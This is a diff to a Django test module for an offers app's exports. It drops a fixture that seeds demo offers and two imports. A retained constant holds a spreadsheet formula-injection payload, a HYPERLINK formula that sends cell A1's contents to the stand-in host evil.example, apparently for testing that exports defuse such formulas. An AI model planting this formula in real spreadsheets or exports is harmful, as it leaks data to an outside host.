@@ -7,22 +7,9 @@ import pytest
 from django.urls import reverse
 from pypdf import PdfReader
 
-from erasmi.networks.models import Membership, Organisation
-from erasmi.offers import demo
 from erasmi.offers.models import Offer
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
-
-
-@pytest.fixture
-def offers(erfurt_network):
-    for n in range(3):  # the demo gives offers to the network's members
-        Membership.objects.create(
-            network=erfurt_network,
-            organisation=Organisation.objects.create(name=f"Provider {n}", actor_type="ngo"),
-        )
-    demo.load(erfurt_network)
-    return erfurt_network
 
 
 @pytest.fixture
